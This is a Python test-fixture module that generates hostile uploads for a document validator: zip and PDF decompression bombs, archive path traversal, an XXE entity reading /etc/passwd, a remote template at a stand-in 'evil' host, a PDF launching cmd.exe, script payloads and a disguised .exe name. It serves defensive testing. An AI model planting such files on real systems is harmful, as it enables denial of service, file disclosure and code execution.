"""Files that do harm where they are opened carelessly, made afresh for each run (reliability R17)."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from PIL import Image

from jiedan.documents.probe.office import TYPES_PART
from jiedan.documents.tests.papers import CONTENT_TYPES, WORD, archive, docx, pdf, picture

MIB = 1 << 20


def _entry(name: str, content: bytes, **attributes: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(TYPES_PART, CONTENT_TYPES)
        made.writestr("word/document.xml", WORD)
        entry = zipfile.ZipInfo(name)
        for key, value in attributes.items():
            setattr(entry, key, value)
        made.writestr(entry, content)
    return out.getvalue()


def _bomb() -> bytes:
    """1 GiB of nothing in a Word file of about 1 MB."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr(TYPES_PART, CONTENT_TYPES)
        made.writestr("word/document.xml", WORD)
        with made.open("word/media/image1.png", "w", force_zip64=True) as stream:
            piece = bytes(16 * MIB)
            for _step in range(64):
                stream.write(piece)
    return out.getvalue()


def _lying_bomb() -> bytes:
    """An entry that says it is 100 bytes long and unfolds to 64 MiB."""
    made = bytearray(_entry("word/media/image1.png", bytes(64 * MIB), compress_type=zipfile.ZIP_DEFLATED))
    length = struct.pack("<I", 64 * MIB)
    return bytes(made.replace(length, struct.pack("<I", 100)))


def _many_entries() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(TYPES_PART, CONTENT_TYPES)
        made.writestr("word/document.xml", WORD)
        for number in range(70_000):
            made.writestr(f"w/{number}", b"")
    return out.getvalue()


def _locked_archive() -> bytes:
    made = bytearray(docx())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(magic)
        made[place + offset] |= 1
    return bytes(made)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _huge_png() -> bytes:
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(bytes(MIB))) + _chunk(b"IEND", b"")
    )


def _text_bomb_png() -> bytes:
    """A small picture with 64 MiB of compressed text."""
    made = picture()
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(64 * MIB), 9))
    return made[:33] + text + made[33:]


def _moving() -> bytes:
    out = BytesIO()
    frames = [Image.new("RGB", (20, 20), (step * 80, 0, 0)) for step in range(3)]
    frames[0].save(out, format="WEBP", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def _pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    with pikepdf.open(BytesIO(pdf())) as made:
        change(made)
        out = BytesIO()
        made.save(out, **options)
        return out.getvalue()


def _script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = b"MZ"


def _object_stream_bomb() -> bytes:
    """An object stream of 512 MiB in a file of half a megabyte."""
    packed = zlib.compressobj(9)
    body = packed.compress(b"5 0 <<>> ")
    for _step in range(32):
        body += packed.compress(b" " * (16 * MIB))
    body += packed.flush()
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(body)
    parts = [b"%PDF-1.5\n", b"1 0 obj<</Type/Catalog/Pages 2 0 R/X 5 0 R>>endobj\n"]
    parts += [b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"]
    parts += [b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"]
    parts += [b"4 0 obj" + head + b"stream\n" + body + b"\nendstream endobj\n"]
    starts, length = [], 0
    for part in parts:
        starts.append(length)
        length += len(part)
    rows = [(0, 0, 255), *((1, start, 0) for start in starts[1:]), (2, 4, 0), (1, length, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    index = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    tail = b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % length
    return b"".join(parts) + b"6 0 obj" + index + table + tail


_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 99 + b'">]><l>&b;</l>'
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "1 GiB in 1 MB": ("a.docx", _bomb),
    "longer than it says": ("a.docx", _lying_bomb),
    "70,000 entries": ("a.docx", _many_entries),
    "an archive in the archive": ("a.docx", lambda: docx(word__more=archive({"x": b"y"}))),
    "a way out of the archive": ("a.docx", lambda: _entry("../../../etc/cron.d/x", b"x")),
    "an absolute name": ("a.docx", lambda: _entry("/etc/cron.d/x", b"x")),
    "a symbolic link": ("a.docx", lambda: _entry("word/link", b"/etc/passwd", external_attr=0o120777 << 16)),
    "a locked archive": ("a.docx", _locked_archive),
    "an entity from a file": ("a.docx", lambda: _entry("word/x.xml", _OUTSIDE)),
    "a billion laughs": ("a.docx", lambda: _entry("word/x.xml", _LAUGHS)),
    "a template from elsewhere": ("a.docx", lambda: _entry("word/_rels/settings.xml.rels", _TEMPLATE)),
    "macros": ("a.docx", lambda: _entry("word/vbaProject.bin", b"x")),
    "an archive that is no document": ("a.docx", lambda: archive({"x": b"y"})),
    "60,000 × 60,000": ("a.png", _huge_png),
    "64 MiB of text in a picture": ("a.png", _text_bomb_png),
    "half a picture": ("a.jpg", lambda: picture("JPEG", (400, 300))[:500]),
    "a moving picture": ("a.webp", _moving),
    "a page as a picture": ("a.png", lambda: b"<html><script>alert(1)</script>"),
    "a drawing with scripts": ("a.svg", lambda: _SVG),
    "a page as text": ("a.txt", lambda: b" <html><script>alert(1)</script>"),
    "bytes as text": ("a.txt", lambda: b"\0\1\2\xff"),
    "a program": ("a.pdf", lambda: b"MZ\x90\0" + bytes(600)),
    "a PDF behind something": ("a.pdf", lambda: b"GIF89a" + pdf()),
    "an archive behind a PDF": ("a.pdf", lambda: pdf() + archive({"x": b"y"})),
    "a PDF with a script": ("a.pdf", lambda: _pdf_with(_script)),
    "a PDF with a script out of sight": (
        "a.pdf", lambda: _pdf_with(_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    ),
    "a PDF that starts a program": ("a.pdf", lambda: _pdf_with(_launch)),
    "a PDF with an attachment": ("a.pdf", lambda: _pdf_with(_attached)),
    "a locked PDF": ("a.pdf", lambda: _pdf_with(lambda _made: None, encryption=pikepdf.Encryption(owner="a", user="b"))),
    "a PDF that unfolds to 512 MiB": ("a.pdf", _object_stream_bomb),
    "a PDF of nothing": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF\n"),
    "the old Word": ("a.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)),
    "two endings": ("a.pdf.exe", pdf),
    "a name turned around": ("invoice\u202efdp.exe", pdf),
    "nothing": ("a.pdf", lambda: b""),
    "too much": ("a.txt", lambda: b"x" * (20 * MIB + 1)),
}  # fmt: skip
"""What it is, the name it comes with, and how it is made. All of them are refused."""
